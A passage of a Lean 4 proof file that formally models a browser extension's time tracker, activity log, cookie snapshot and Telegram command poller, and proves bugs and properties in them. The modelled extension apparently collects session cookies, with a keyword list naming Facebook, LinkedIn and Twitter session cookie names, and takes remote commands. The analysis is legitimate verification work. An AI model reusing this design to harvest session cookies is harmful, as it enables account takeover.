  targetKeys.filterMap (fun key => matchingCookies.find? (fun ck => ck.name = key))

/-- The cookies that get a secondary line: those passing the test of the second
loop, in the order of `matchingCookies`. -/
def secondaryCookies (targetKeys : List String) (matchingCookies : List CookieRecord) :
    List CookieRecord :=
  matchingCookies.filter (fun c => !targetKeys.contains c.name && hasSessionKeyword c.name)

/-- One priority line of the secrets block. -/
def priorityLine (c : CookieRecord) : String :=
  "<b>🔑 " ++ c.name ++ "</b>: <code>" ++ c.value ++ "</code>\n"

/-- One secondary line of the secrets block. -/
def secondaryLine (c : CookieRecord) : String :=
  "• <i>" ++ c.name ++ "</i>: <code>" ++ c.value ++ "</code>\n"

/-! ## Secrets-only scan (`reportOnlySecrets`) -/

/-- The constant `secretKeywords` of `reportOnlySecrets`. -/
def secretKeywords : List String :=
  ["session", "token", "auth", "sid", "login", "c_user", "xs", "li_at", "twid"]

/-- Test `secretKeywords.some(kw => name.toLowerCase().includes(kw))`. -/
def hasSecretKeyword (name : String) : Bool :=
  secretKeywords.any (fun kw => includes (toLowerCase name) kw)

/-- The body of the loop of `chunkRows`, named for the proofs. -/
def chunkRowsStep (tableMsg : String) (st : List String × List (List String)) (row : String) :
    List String × List (List String) :=
  if jsLength tableMsg + jsLength (String.join st.1) + jsLength row > 3500 then
    ([row], st.2 ++ [st.1])
  else (st.1 ++ [row], st.2)

/-- Domain relation of the specification for cookie matching, written from
its words: the cookie domain equals the target, or is a parent domain of the
target, or is the base domain of the target or a sub-domain of that base
domain. -/
def specDomainMatches (targetDomain cookieDomain : String) : Bool :=
  let base := (jsToString (getBaseDomain (some targetDomain))).data
  cookieDomain == targetDomain ||
    ('.' :: cookieDomain.data).isSuffixOf targetDomain.data ||
    cookieDomain.data == base ||
    ('.' :: base).isSuffixOf cookieDomain.data

/-- Monotonicity of a stats object: every entry of `a` is still present in `b`
with a value at least as large. -/
def statsLe (a b : JsObject Int) : Prop :=
  ∀ d v, a.get d = some v → ∃ w, b.get d = some w ∧ v ≤ w

/-! # Theorems -/

/-! ## Association-list lemmas -/

theorem JsObject.get_set_self {α : Type} (o : JsObject α) (k : String) (v : α) :
    (o.set k v).get k = some v := by
  induction o with
  | nil => simp [JsObject.set, JsObject.get]
  | cons kv rest ih =>
    obtain ⟨k', v'⟩ := kv
    by_cases h : k' = k
    · simp [JsObject.set, JsObject.get, h]
    · simp [JsObject.set, JsObject.get, h, ih]

theorem JsObject.get_set_ne {α : Type} (o : JsObject α) (k k2 : String) (v : α)
    (hne : k2 ≠ k) : (o.set k v).get k2 = o.get k2 := by
  induction o with
  | nil =>
    have h : ¬ k = k2 := fun e => hne e.symm
    simp [JsObject.set, JsObject.get, h]
  | cons kv rest ih =>
    obtain ⟨k', v'⟩ := kv
    by_cases h : k' = k
    · subst h
      have h2 : ¬ k' = k2 := fun e => hne e.symm
      simp [JsObject.set, JsObject.get, h2]
    · by_cases h3 : k' = k2
      · subst h3
        simp [JsObject.set, JsObject.get, h]
      · simp [JsObject.set, JsObject.get, h, h3, ih]

theorem JsObject.mem_keys_iff {α : Type} (o : JsObject α) (k : String) :
    k ∈ o.keys ↔ (o.get k).isSome = true := by
  induction o with
  | nil => simp [JsObject.keys, JsObject.get]
  | cons kv rest ih =>
    obtain ⟨k', v'⟩ := kv
    by_cases h : k' = k
    · simp [JsObject.keys, JsObject.get, h]
    · have h2 : ¬ k = k' := fun e => h e.symm
      have ih2 : k ∈ List.map Prod.fst rest ↔ (JsObject.get rest k).isSome = true := ih
      simp only [JsObject.keys, List.map_cons, List.mem_cons, JsObject.get, h, h2, if_false,
        false_or]
      exact ih2

theorem JsObject.keys_set {α : Type} (o : JsObject α) (k : String) (v : α) :
    (o.set k v).keys = if k ∈ o.keys then o.keys else o.keys ++ [k] := by
  induction o with
  | nil => simp [JsObject.set, JsObject.keys]
  | cons kv rest ih =>
    obtain ⟨k', v'⟩ := kv
    have ih2 : List.map Prod.fst (JsObject.set rest k v) =
        if k ∈ List.map Prod.fst rest then List.map Prod.fst rest
        else List.map Prod.fst rest ++ [k] := ih
    by_cases h : k' = k
    · simp [JsObject.set, JsObject.keys, h]
    · have h2 : ¬ k = k' := fun e => h e.symm
      simp only [JsObject.set, JsObject.keys, h, h2, if_false, List.map_cons, List.mem_cons,
        false_or, ih2]
      split <;> simp

theorem JsObject.nodup_keys_set {α : Type} (o : JsObject α) (k : String) (v : α)
    (hnd : o.keys.Nodup) : (o.set k v).keys.Nodup := by
  rw [JsObject.keys_set]
  split
  · exact hnd
  · rename_i hk
    rw [List.nodup_append]
    refine ⟨hnd, List.nodup_singleton k, ?_⟩
    intro a ha hb
    simp only [List.mem_singleton] at hb
    subst hb
    exact hk ha

/-! ## Activity timer -/

/-- C1 (code defect): `windows.onFocusChanged` with a real window id overwrites
`currentDomain` and `startTime` without a flush, so after `a.com` was current
and active from 1000 to 5000 the stats hold no entry for it, where the
reference timer of the specification records 4000; and a tab activation whose
`chrome.tabs.get` fails flushes without restarting `startTime`, so a run that
spans 2000 ms in all credits `a.com` with 3000 ms. -/
theorem run_misses_window_switch_and_double_counts :
    (run Tracker.init
        [ (1000, .tabActivated (.tab (some "a.com"))),
          (5000, .windowFocusChanged (.window (.tab (some "b.com")))),
          (6000, .windowFocusChanged .none_) ]).stats = [("b.com", 1000)] ∧
    (specRun Tracker.init
        [ (1000, .tabActivated (.tab (some "a.com"))),
          (5000, .windowFocusChanged (.window (.tab (some "b.com")))),
          (6000, .windowFocusChanged .none_) ]).stats = [("a.com", 4000), ("b.com", 1000)] ∧
    (run Tracker.init
        [ (1000, .tabActivated (.tab (some "a.com"))),
          (2000, .tabActivated .failed),
          (3000, .windowFocusChanged .none_) ]).stats = [("a.com", 3000)] := by
  decide

/-- C2 (as stated, refuted): with `currentDomain` set to the empty host name
(the host of `about:blank` or a `file:` page) and `startTime` set, the guard
`currentDomain && startTime` is false and the flush writes nothing, so
`stats[""]` is not increased by `now - startTime`; and with `currentDomain` set
to `constructor`, the read `stats["constructor"]` finds the inherited member,
and what is stored under the key is a string, not 0 plus the duration. -/
theorem updateTime_empty_domain_writes_nothing :
    statOf (updateTime 5000 (Tracker.mk (some "") (some 1000) [] [])).stats "" ≠
      statOf [] "" + (5000 - 1000) ∧
    updateTime 5000 (Tracker.mk (some "constructor") (some 1000) [] []) =
      Tracker.mk (some "constructor") (some 1000) [] ["constructor"] := by
  decide

theorem read_eq_own_or_undefined {α : Type} (o : JsObject α) (d : String)
    (h : o.get d ≠ none ∨ d ∉ objectPrototypeKeys) :
    (∃ v, o.get d = some v ∧ o.read d = .own v) ∨
      (o.get d = none ∧ o.read d = .undefined) := by
  cases hg : o.get d with
  | some v => exact Or.inl ⟨v, rfl, by simp [JsObject.read, hg]⟩
  | none =>
    right
    rcases h with h | h
    · exact absurd hg h
    · exact ⟨rfl, by simp [JsObject.read, hg, h]⟩

theorem updateTime_numeric (now : Int) (t : Tracker) (d : String) (s : Int)
    (hd : t.currentDomain = some d) (hs : t.startTime = some s) (hne : d ≠ "") (hs0 : s ≠ 0)
    (htext : d ∉ t.textStats) (hnum : t.stats.get d ≠ none ∨ d ∉ objectPrototypeKeys) :
    updateTime now t = { t with stats := t.stats.set d (statOf t.stats d + (now - s)) } := by
  rcases read_eq_own_or_undefined t.stats d hnum with ⟨v, hg, hr⟩ | ⟨hg, hr⟩
  · simp [updateTime, hd, hs, truthyStr, truthyNum, hne, hs0, htext, hr, statOf, hg]
  · simp [updateTime, hd, hs, truthyStr, truthyNum, hne, hs0, htext, hr, statOf, hg]

theorem updateTime_stats_cases (now : Int) (t : Tracker) :
    (updateTime now t).stats = t.stats ∨
      ∃ d s, t.currentDomain = some d ∧ t.startTime = some s ∧
        (updateTime now t).stats = t.stats.set d (statOf t.stats d + (now - s)) := by
  unfold updateTime
  split
  · rename_i d s hd hs
    split
    · split
      · exact Or.inl rfl
      · cases hg : t.stats.get d with
        | some v =>
          right
          exact ⟨d, s, hd, hs, by simp [JsObject.read, hg, statOf]⟩
        | none =>
          by_cases hp : d ∈ objectPrototypeKeys
          · left
            simp only [JsObject.read, hg, hp, if_true]
            split <;> rfl
          · right
            exact ⟨d, s, hd, hs, by simp [JsObject.read, hg, hp, statOf]⟩
    · exact Or.inl rfl
  · exact Or.inl rfl

theorem updateTime_inherited_writes_no_number (now : Int) (t : Tracker) (d : String)
    (hd : t.currentDomain = some d)
    (hcase : d ∈ t.textStats ∨ (t.stats.get d = none ∧ d ∈ objectPrototypeKeys)) :
    (updateTime now t).stats = t.stats := by
  unfold updateTime
  rw [hd]
  cases hs : t.startTime with
  | none => rfl
  | some s =>
    simp only
    split
    · rcases hcase with hc | ⟨hg, hp⟩
      · simp [hc]
      · split
        · rfl
        · simp only [JsObject.read, hg, hp, if_true]
          split <;> rfl
    · rfl

/-- C2 (amended): when `currentDomain` is a non-empty string whose entry in
`stats` is a number, or is absent and not a member name of `Object.prototype`,
and `startTime` is a non-zero number, `updateTime` at `now` sets
`stats[currentDomain]` to its previous value (0 if absent) plus
`now - startTime` and leaves every other entry and both globals as they were;
when either global is `null`, or the domain is empty, or the start time is 0,
the whole state is unchanged. -/
theorem updateTime_frame (now : Int) (t : Tracker) :
    (∀ d s, t.currentDomain = some d → t.startTime = some s → d ≠ "" → s ≠ 0 →
      d ∉ t.textStats → (t.stats.get d ≠ none ∨ d ∉ objectPrototypeKeys) →
      (updateTime now t).stats.get d = some (statOf t.stats d + (now - s)) ∧
      (∀ k, k ≠ d → (updateTime now t).stats.get k = t.stats.get k) ∧
      (updateTime now t).textStats = t.textStats ∧
      (updateTime now t).currentDomain = t.currentDomain ∧
      (updateTime now t).startTime = t.startTime) ∧
    ((t.currentDomain = none ∨ t.currentDomain = some "" ∨ t.startTime = none ∨
        t.startTime = some 0) → updateTime now t = t) := by
  refine ⟨?_, ?_⟩
  · intro d s hd hs hne hs0 htext hnum
    rw [updateTime_numeric now t d s hd hs hne hs0 htext hnum]
    refine ⟨JsObject.get_set_self _ _ _, ?_, rfl, rfl, rfl⟩
    intro k hk
    exact JsObject.get_set_ne _ _ _ _ hk
  · intro h
    rcases h with h | h | h | h
    · simp [updateTime, h]
    · cases hs : t.startTime <;> simp [updateTime, h, hs, truthyStr]
    · cases hd : t.currentDomain <;> simp [updateTime, h, hd]
    · cases hd : t.currentDomain <;> simp [updateTime, h, hd, truthyNum]

/-- C2 (amended), at a concrete state: 4000 ms are added to the 500 ms already
stored for `a.com`, and the entry of `b.com` is untouched. -/
theorem updateTime_frame_witness :
    (updateTime 5000 (Tracker.mk (some "a.com") (some 1000)
        [("b.com", 7), ("a.com", 500)] [])).stats.get "a.com" = some 4500 ∧
    (updateTime 5000 (Tracker.mk (some "a.com") (some 1000)
        [("b.com", 7), ("a.com", 500)] [])).stats.get "b.com" = some 7 ∧
    updateTime 5000 (Tracker.mk none (some 1000) [] []) = Tracker.mk none (some 1000) [] [] := by
  have h := updateTime_frame 5000 (Tracker.mk (some "a.com") (some 1000)
    [("b.com", 7), ("a.com", 500)] [])
  have h1 := h.1 "a.com" 1000 rfl rfl (by decide) (by decide) (by decide) (by decide)
  have h0 := updateTime_frame 5000 (Tracker.mk none (some 1000) [] [])
  refine ⟨?_, ?_, h0.2 (Or.inl rfl)⟩
  · rw [h1.1]; decide
  · rw [h1.2.1 "b.com" (by decide)]; decide

/-! ## Event log -/

theorem logActivity_eq_drop (log : List ActivityEvent) (e : ActivityEvent)
    (h : log.length ≤ 1000) :
    logActivity log e = (log ++ [e]).drop ((log ++ [e]).length - 1000) := by
  unfold logActivity
  simp only [List.length_append, List.length_singleton]
  by_cases hl : log.length + 1 > 1000
  · have h1 : log.length + 1 - 1000 = 1 := by omega
    simp [hl, h1]
  · have h0 : log.length + 1 - 1000 = 0 := by omega
    simp [hl, h0]

theorem logActivity_length_le (log : List ActivityEvent) (e : ActivityEvent)
    (h : log.length ≤ 1000) : (logActivity log e).length ≤ 1000 := by
  rw [logActivity_eq_drop log e h]
  simp only [List.length_drop, List.length_append, List.length_singleton]
  omega

theorem logAll_eq_drop (es : List ActivityEvent) :
    ∀ log : List ActivityEvent, log.length ≤ 1000 →
      logAll log es = (log ++ es).drop ((log ++ es).length - 1000) := by
  induction es with
  | nil =>
    intro log h
    have h0 : log.length - 1000 = 0 := by omega
    simp [logAll, h0]
  | cons e es ih =>
    intro log h
    have hstep : logAll log (e :: es) = logAll (logActivity log e) es := rfl
    rw [hstep, ih _ (logActivity_length_le log e h), logActivity_eq_drop log e h]
    have hk : (log ++ [e]).length - 1000 ≤ (log ++ [e]).length := Nat.sub_le _ _
    rw [← List.drop_append_of_le_length hk, List.drop_drop]
    have hcons : log ++ [e] ++ es = log ++ e :: es := by simp
    rw [hcons]
    apply congrArg (fun n => List.drop n (log ++ e :: es))
    simp only [List.length_drop, List.length_append, List.length_cons, List.length_singleton,
      List.length_nil]
    omega

/-- C3: starting from a stored log of at most 1000 entries, the log after any
sequence of `logActivity` calls has at most 1000 entries; and after more than
1000 calls on an empty log it is exactly the last 1000 events, oldest first. -/
theorem logActivity_bounded (log es : List ActivityEvent) (h : log.length ≤ 1000) :
    (logAll log es).length ≤ 1000 ∧
    (1000 < es.length →
      logAll [] es = es.drop (es.length - 1000) ∧ (logAll [] es).length = 1000) := by
  constructor
  · rw [logAll_eq_drop es log h]
    simp only [List.length_drop]
    omega
  · intro hN
    have h2 := logAll_eq_drop es [] (by simp)
    simp only [List.nil_append] at h2
    refine ⟨h2, ?_⟩
    rw [h2, List.length_drop]
    omega

/-- C3 at a concrete input: 1001 appends on the empty log leave the last 1000
events. -/
theorem logActivity_bounded_witness :
    (logAll [] (List.replicate 1001
        ({ domain := "a.com", action := "focused", openerDomain := none,
           timestamp := 1 } : ActivityEvent))).length ≤ 1000 ∧
    (logAll [] (List.replicate 1001
        ({ domain := "a.com", action := "focused", openerDomain := none,
           timestamp := 1 } : ActivityEvent))).length = 1000 := by
  have h := logActivity_bounded [] (List.replicate 1001
        ({ domain := "a.com", action := "focused", openerDomain := none,
           timestamp := 1 } : ActivityEvent)) (Nat.zero_le 1000)
  exact ⟨h.1, (h.2 (by rw [List.length_replicate]; omega)).2⟩

/-! ## Cookie snapshot -/

theorem pushCookie_get (cd : JsObject (List CookieRecord)) (c : Cookie) (k : String) :
    (pushCookie cd c).get k =
      if stripLeadingDot c.domain = k then some ((cd.get k).getD [] ++ [c.record])
      else cd.get k := by
  unfold pushCookie
  by_cases h : stripLeadingDot c.domain = k
  · subst h
    simp [JsObject.get_set_self]
  · have h2 : k ≠ stripLeadingDot c.domain := fun e => h e.symm
    simp [h, JsObject.get_set_ne _ _ _ _ h2]

theorem foldl_pushCookie_get (cookies : List Cookie) (k : String) :
    ∀ cd : JsObject (List CookieRecord),
      (cookies.foldl pushCookie cd).get k =
        if cookies.filter (fun c => decide (stripLeadingDot c.domain = k)) = [] then cd.get k
        else some ((cd.get k).getD [] ++
          (cookies.filter (fun c => decide (stripLeadingDot c.domain = k))).map Cookie.record) := by
  induction cookies with
  | nil => intro cd; simp
  | cons c cs ih =>
    intro cd
    rw [List.foldl_cons, ih (pushCookie cd c), pushCookie_get]
    by_cases h : stripLeadingDot c.domain = k
    · simp only [h, if_true, List.filter_cons, decide_True]
      split <;> simp_all
    · simp [h, List.filter_cons]

theorem foldl_pushCookie_nodup (cookies : List Cookie) :
    ∀ cd : JsObject (List CookieRecord), cd.keys.Nodup →
      (cookies.foldl pushCookie cd).keys.Nodup := by
  induction cookies with
  | nil => intro cd h; exact h
  | cons c cs ih =>
    intro cd h
    rw [List.foldl_cons]
    exact ih _ (JsObject.nodup_keys_set _ _ _ h)

theorem foldl_pushCookie_nil_get (cookies : List Cookie) (k : String) :
    (cookies.foldl pushCookie []).get k =
      if cookies.filter (fun c => decide (stripLeadingDot c.domain = k)) = [] then none
      else some ((cookies.filter (fun c => decide (stripLeadingDot c.domain = k))).map
        Cookie.record) := by
  rw [foldl_pushCookie_get]
  simp [JsObject.get]

theorem mem_keys_foldl_pushCookie (cookies : List Cookie) (k : String) :
    k ∈ (cookies.foldl pushCookie []).keys ↔
      ∃ c ∈ cookies, stripLeadingDot c.domain = k := by
  rw [JsObject.mem_keys_iff, foldl_pushCookie_nil_get]
  by_cases h : cookies.filter (fun c => decide (stripLeadingDot c.domain = k)) = []
  · simp only [h, if_true, Option.isSome_none, Bool.false_eq_true, false_iff]
    rintro ⟨c, hc, hk⟩
    have hmem : c ∈ cookies.filter (fun c => decide (stripLeadingDot c.domain = k)) := by
      simp [List.mem_filter, hc, hk]
    rw [h] at hmem
    simp at hmem
  · simp only [h, if_false, Option.isSome_some, true_iff]
    obtain ⟨c, hc⟩ := List.exists_mem_of_ne_nil _ h
    rw [List.mem_filter] at hc
    exact ⟨c, hc.1, by simpa using hc.2⟩

theorem addCookie_of_not_inherited (cd : JsObject (List CookieRecord)) (c : Cookie)
    (h : stripLeadingDot c.domain ∉ objectPrototypeKeys) :
    addCookie cd c = some (pushCookie cd c) := by
  unfold addCookie JsObject.read
  cases cd.get (stripLeadingDot c.domain) with
  | none => simp [h]
  | some v => rfl

theorem addCookie_of_inherited (cd : JsObject (List CookieRecord)) (c : Cookie)
    (h : stripLeadingDot c.domain ∈ objectPrototypeKeys)
    (hown : ∀ k ∈ cd.keys, k ∉ objectPrototypeKeys) :
    addCookie cd c = none := by
  have hget : cd.get (stripLeadingDot c.domain) = none := by
    cases hg : cd.get (stripLeadingDot c.domain) with
    | none => rfl
    | some v =>
      have hk : stripLeadingDot c.domain ∈ cd.keys := by
        rw [JsObject.mem_keys_iff, hg]
        rfl
      exact absurd h (hown _ hk)
  simp [addCookie, JsObject.read, hget, h]

theorem scanCookies_of_not_inherited (cookies : List Cookie)
    (h : ∀ c ∈ cookies, stripLeadingDot c.domain ∉ objectPrototypeKeys) :
    ∀ cd : JsObject (List CookieRecord),
      scanCookies cd cookies = some (cookies.foldl pushCookie cd) := by
  induction cookies with
  | nil => intro cd; rfl
  | cons c cs ih =>
    intro cd
    have hc := h c (List.mem_cons_self _ _)
    have hcs : ∀ c2 ∈ cs, stripLeadingDot c2.domain ∉ objectPrototypeKeys :=
      fun c2 h2 => h c2 (List.mem_cons_of_mem _ h2)
    simp only [scanCookies, addCookie_of_not_inherited cd c hc, List.foldl_cons]
    exact ih hcs _

theorem scanCookies_of_inherited (cookies : List Cookie)
    (h : ∃ c ∈ cookies, stripLeadingDot c.domain ∈ objectPrototypeKeys) :
    ∀ cd : JsObject (List CookieRecord), (∀ k ∈ cd.keys, k ∉ objectPrototypeKeys) →
      scanCookies cd cookies = none := by
  induction cookies with
  | nil =>
    obtain ⟨c, hc, _⟩ := h
    simp at hc
  | cons c cs ih =>
    intro cd hown
    by_cases hc : stripLeadingDot c.domain ∈ objectPrototypeKeys
    · simp [scanCookies, addCookie_of_inherited cd c hc hown]
    · have hrest : ∃ c2 ∈ cs, stripLeadingDot c2.domain ∈ objectPrototypeKeys := by
        obtain ⟨c2, hmem, hp⟩ := h
        rcases List.mem_cons.1 hmem with he | hm
        · subst he
          exact absurd hp hc
        · exact ⟨c2, hm, hp⟩
      simp only [scanCookies, addCookie_of_not_inherited cd c hc]
      apply ih hrest
      intro k hk
      unfold pushCookie at hk
      rw [JsObject.keys_set] at hk
      split at hk
      · exact hown k hk
      · rcases List.mem_append.1 hk with hk2 | hk2
        · exact hown k hk2
        · rw [List.mem_singleton] at hk2
          rw [hk2]
          exact hc

theorem startsWithDot_strip (d : String) (h : d.data.take 2 ≠ ['.', '.']) :
    startsWithDot (stripLeadingDot d) = false := by
  obtain ⟨l⟩ := d
  cases l with
  | nil => simp [stripLeadingDot, startsWithDot]
  | cons a rest =>
    by_cases ha : a = '.'
    · subst ha
      cases rest with
      | nil => simp [stripLeadingDot, startsWithDot]
      | cons b rest2 =>
        have hb : b ≠ '.' := by
          intro hb
          subst hb
          simp at h
        simp [stripLeadingDot, startsWithDot, hb]
    · simp [stripLeadingDot, startsWithDot, ha]

theorem strip_dot_append (d : String) (h : ("." ++ d).data.take 2 ≠ ['.', '.']) :
    stripLeadingDot ("." ++ d) = stripLeadingDot d := by
  obtain ⟨l⟩ := d
  have hdata : ("." ++ String.mk l).data = '.' :: l := by
    simp [String.data_append]
  have h1 : stripLeadingDot ("." ++ String.mk l) = String.mk l := by
    simp [stripLeadingDot, startsWithDot, hdata]
  rw [h1]
  cases l with
  | nil => simp [stripLeadingDot, startsWithDot]
  | cons b rest =>
    have hb : b ≠ '.' := by
      intro hb
      subst hb
      rw [hdata] at h
      simp at h
    simp [stripLeadingDot, startsWithDot, hb]

/-- C4 (code defect): a cookie whose domain is `constructor` makes the read
`cookieData[domain]` find the inherited member, so the guard
`if (!cookieData[domain])` creates no group, the call of `push` throws, and
nothing is stored: neither this cookie nor the cookie of `example.com` scanned
before it is in any group. -/
theorem updateCookieStats_throws_on_inherited_key :
    updateCookieStats
      [ { domain := "example.com", name := "a", value := "1", path := "/", secure := false, httpOnly := false, expirationDate := none, sameSite := "lax", session := true },
        { domain := "constructor", name := "b", value := "2", path := "/", secure := false, httpOnly := false, expirationDate := none, sameSite := "lax", session := true } ] =
      none := by
  decide

/-- Grouping of the cookie snapshot on every other input: for every list of
cookies none of whose domains, once a leading dot is stripped, is a member name
of `Object.prototype`,
`updateCookieStats` stores an object whose keys are pairwise different and are
exactly the stripped cookie domains, and the group of a cookie is the list of
the records of all cookies with the same stripped domain, in input order; when
moreover no cookie domain begins with two dots (the browser returns a host
name, or a dot and a host name), no key begins with a dot and two cookies whose
domains differ only by a leading dot share a key.  When some stripped domain is
a member name of `Object.prototype`, the function throws and stores nothing. -/
theorem updateCookieStats_groups (cookies : List Cookie) :
    ((∀ c ∈ cookies, stripLeadingDot c.domain ∉ objectPrototypeKeys) →
      ∃ cookieData, updateCookieStats cookies = some cookieData ∧
        ((∀ c ∈ cookies, c.domain.data.take 2 ≠ ['.', '.']) →
          (∀ k ∈ cookieData.keys, startsWithDot k = false) ∧
          (∀ c1 ∈ cookies, ∀ c2 ∈ cookies, c1.domain = "." ++ c2.domain →
            stripLeadingDot c1.domain = stripLeadingDot c2.domain)) ∧
        cookieData.keys.Nodup ∧
        (∀ k, k ∈ cookieData.keys ↔ ∃ c ∈ cookies, stripLeadingDot c.domain = k) ∧
        (∀ c ∈ cookies, cookieData.get (stripLeadingDot c.domain) =
          some ((cookies.filter
            (fun c2 => decide (stripLeadingDot c2.domain = stripLeadingDot c.domain))).map
              Cookie.record))) ∧
    ((∃ c ∈ cookies, stripLeadingDot c.domain ∈ objectPrototypeKeys) →
      updateCookieStats cookies = none) := by
  refine ⟨fun hproto => ⟨cookies.foldl pushCookie [],
    scanCookies_of_not_inherited cookies hproto [], fun h => ⟨?_, ?_⟩, ?_,
    mem_keys_foldl_pushCookie cookies, ?_⟩, ?_⟩
  · intro k hk
    obtain ⟨c, hc, hck⟩ := (mem_keys_foldl_pushCookie cookies k).1 hk
    rw [← hck]
    exact startsWithDot_strip c.domain (h c hc)
  · intro c1 hc1 c2 _ heq
    have h1 := h c1 hc1
    rw [heq] at h1 ⊢
    exact strip_dot_append c2.domain h1
  · exact foldl_pushCookie_nodup cookies [] (by simp [JsObject.keys])
  · intro c hc
    rw [foldl_pushCookie_nil_get]
    have hne : cookies.filter
        (fun c2 => decide (stripLeadingDot c2.domain = stripLeadingDot c.domain)) ≠ [] := by
      intro hnil
      have hmem : c ∈ cookies.filter
          (fun c2 => decide (stripLeadingDot c2.domain = stripLeadingDot c.domain)) := by
        simp [List.mem_filter, hc]
      rw [hnil] at hmem
      simp at hmem
    simp [hne]
  · intro h
    exact scanCookies_of_inherited cookies h [] (by simp [JsObject.keys])

/-- The grouping at a concrete input: the scan of `.example.com` and
`example.com` completes, and the stored keys are pairwise different and free of
a leading dot. -/
theorem updateCookieStats_groups_witness :
    ∃ cookieData, updateCookieStats
      [ { domain := ".example.com", name := "a", value := "1", path := "/", secure := false, httpOnly := false, expirationDate := none, sameSite := "lax", session := true },
        { domain := "example.com", name := "b", value := "2", path := "/", secure := false, httpOnly := false, expirationDate := none, sameSite := "lax", session := true } ] =
        some cookieData ∧
      cookieData.keys.Nodup ∧ (∀ k ∈ cookieData.keys, startsWithDot k = false) := by
  obtain ⟨cookieData, hcd, hdots, hnd, _, _⟩ := (updateCookieStats_groups
      [ { domain := ".example.com", name := "a", value := "1", path := "/", secure := false, httpOnly := false, expirationDate := none, sameSite := "lax", session := true },
        { domain := "example.com", name := "b", value := "2", path := "/", secure := false, httpOnly := false, expirationDate := none, sameSite := "lax", session := true } ]).1
      (by decide)
  exact ⟨cookieData, hcd, hnd, (hdots (by decide)).1⟩

/-! ## Remote command poller -/

theorem runCalls_quiet (calls : List Action) : runCalls Faults.quiet calls = (calls, false) := by
  induction calls with
  | nil => rfl
  | cons a rest ih =>
    have hq : (a.canThrow && Faults.quiet.throws a) = false := by simp [Faults.quiet]
    simp [runCalls, hq, ih]

theorem handleUpdateIn_quiet (p : Poller) (u : Update) :
    handleUpdateIn Faults.quiet p u = (handleUpdate p u, false) := by
  have hp : Faults.quiet.persistFails = false := rfl
  unfold handleUpdate handleUpdateIn
  cases u.message with
  | none => simp [hp]
  | some m =>
    simp only [hp, Bool.false_eq_true, if_false, runCalls_quiet]
    split
    · rfl
    · split <;> rfl

theorem handleUpdate_eq (p : Poller) (u : Update) :
    handleUpdate p u =
      match u.message with
      | none => { p with lastUpdateId := u.update_id, stored := some u.update_id }
      | some m =>
        if !truthyStr m.text then
          { p with lastUpdateId := u.update_id, stored := some u.update_id }
        else if !isAuthorized m then
          { p with lastUpdateId := u.update_id, stored := some u.update_id }
        else
          { p with lastUpdateId := u.update_id, stored := some u.update_id,
                   actions := p.actions ++ dispatch (jsTrim (toLowerCase (m.text.getD ""))) } := by
  have hp : Faults.quiet.persistFails = false := rfl
  unfold handleUpdate handleUpdateIn
  cases u.message with
  | none => simp [hp]
  | some m =>
    simp only [hp, Bool.false_eq_true, if_false, runCalls_quiet]
    split
    · rfl
    · split <;> rfl

theorem runBatch_quiet (batch : List Update) :
    ∀ (i : Nat) (p : Poller),
      runBatch (fun _ => Faults.quiet) i p batch = batch.foldl handleUpdate p := by
  induction batch with
  | nil => intro i p; rfl
  | cons u us ih =>
    intro i p
    simp only [runBatch, handleUpdateIn_quiet, Bool.false_eq_true, if_false, List.foldl_cons]
    exact ih _ _

theorem checkTelegramCommands_eq (p : Poller) (response : Option PollResponse) :
    checkTelegramCommands p response =
      match response with
      | none => p
      | some data =>
        if data.ok && data.result.length > 0 then data.result.foldl handleUpdate p else p := by
  unfold checkTelegramCommands checkTelegramCommandsIn
  cases response with
  | none => rfl
  | some data =>
    simp only [runBatch_quiet]

theorem handleUpdate_lastUpdateId (p : Poller) (u : Update) :
    (handleUpdate p u).lastUpdateId = u.update_id ∧
      (handleUpdate p u).stored = some u.update_id := by
  rw [handleUpdate_eq]
  cases u.message with
  | none => exact ⟨rfl, rfl⟩
  | some m =>
    simp only
    split
    · exact ⟨rfl, rfl⟩
    · split
      · exact ⟨rfl, rfl⟩
      · exact ⟨rfl, rfl⟩

theorem handleUpdate_unauthorized (p : Poller) (u : Update) (hu : u.unauthorized = true) :
    (handleUpdate p u).actions = p.actions := by
  unfold Update.unauthorized at hu
  rw [handleUpdate_eq]
  cases hm : u.message with
  | none => rfl
  | some m =>
    rw [hm] at hu
    simp only at hu
    simp only
    split
    · rfl
    · simp [hu]

theorem handleUpdate_actions_congr (p q : Poller) (u : Update) (h : p.actions = q.actions) :
    (handleUpdate p u).actions = (handleUpdate q u).actions := by
  rw [handleUpdate_eq, handleUpdate_eq]
  cases u.message with
  | none => exact h
  | some m =>
    simp only
    split
    · exact h
    · split
      · exact h
      · simp [h]

theorem foldl_handleUpdate_filter (batch : List Update) :
    ∀ p q : Poller, p.actions = q.actions →
      (batch.foldl handleUpdate p).actions =
        ((batch.filter (fun u => !u.unauthorized)).foldl handleUpdate q).actions := by
  induction batch with
  | nil => intro p q h; exact h
  | cons u us ih =>
    intro p q h
    by_cases hu : u.unauthorized = true
    · have hf : (u :: us).filter (fun u => !u.unauthorized) =
          us.filter (fun u => !u.unauthorized) := by
        simp [List.filter_cons, hu]
      rw [hf, List.foldl_cons]
      exact ih _ _ ((handleUpdate_unauthorized p u hu).trans h)
    · have hf : (u :: us).filter (fun u => !u.unauthorized) =
          u :: us.filter (fun u => !u.unauthorized) := by
        simp [List.filter_cons, hu]
      rw [hf, List.foldl_cons, List.foldl_cons]
      exact ih _ _ (handleUpdate_actions_congr p q u h)

theorem handleUpdateIn_unauthorized (f : Faults) (p : Poller) (u : Update)
    (hu : u.unauthorized = true) : (handleUpdateIn f p u).1.actions = p.actions := by
  unfold Update.unauthorized at hu
  unfold handleUpdateIn
  simp only
  split
  · rfl
  · cases hm : u.message with
    | none => rfl
    | some m =>
      rw [hm] at hu
      simp only at hu
      simp only
      split
      · rfl
      · simp [hu]

theorem runCalls_initial (f : Faults) (calls : List Action) :
    (runCalls f calls).1 <+: calls ∧ ((runCalls f calls).2 = false → (runCalls f calls).1 = calls) := by
  induction calls with
  | nil => exact ⟨List.prefix_refl _, fun _ => rfl⟩
  | cons a rest ih =>
    by_cases h : (a.canThrow && f.throws a) = true
    · simp only [runCalls, h, if_true]
      exact ⟨⟨rest, rfl⟩, fun hc => by cases hc⟩
    · simp only [runCalls, h, if_false]
      refine ⟨?_, fun hc => ?_⟩
      · obtain ⟨t, ht⟩ := ih.1
        exact ⟨t, by simp [ht]⟩
      · simp [ih.2 hc]

theorem handleUpdateIn_actions (f : Faults) (p q : Poller) (u : Update)
    (h : p.actions = q.actions) :
    (handleUpdateIn f p u).1.actions <+: (handleUpdate q u).actions ∧
    ((handleUpdateIn f p u).2 = false →
